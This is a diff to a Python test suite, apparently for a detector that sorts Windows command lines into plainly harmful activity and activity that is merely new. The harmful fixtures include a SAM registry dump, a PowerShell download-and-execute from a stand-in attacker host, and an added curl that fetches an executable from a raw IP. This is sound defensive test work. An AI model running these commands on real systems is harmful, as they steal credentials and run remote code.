@@ -45,6 +45,7 @@ def of_person(line: str, parent: str = r"C:\Windows\explorer.exe") -> Ran:
         of_person("cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1735953953.14 2>&1", WMI),
         of_person("cmd.exe /c reg save hklm\\sam C:\\Windows\\Temp\\s.hiv"),
         of_person('cmd.exe /c powershell -c "iwr attacker.top/l.ps1|iex"'),
+        of_person("cmd.exe /c curl -o C:\\Windows\\Temp\\j.exe http://198.51.100.7/j.exe"),
     ],
 )
 def test_what_plainly_means_harm_is_told_of_accounts_that_cannot_be_modelled(act: Ran) -> None:
@@ -61,6 +62,8 @@ def test_what_plainly_means_harm_is_told_of_accounts_that_cannot_be_modelled(act
         of_person("cmd /k ping 8.8.8.8"),  # people do
         of_person("cmd /c curl -o D:\\x.zip https://example.com/x.zip"),
         of_person("cmd /c net user /domain"),
+        of_person("net localgroup administrators CORP\\srvadmins /add"),
+        of_person("cmd /c curl -o app.jar https://nexus.example.com/repo/app.jar"),
     ],
 )
 def test_what_is_merely_new_is_not(act: Ran) -> None:
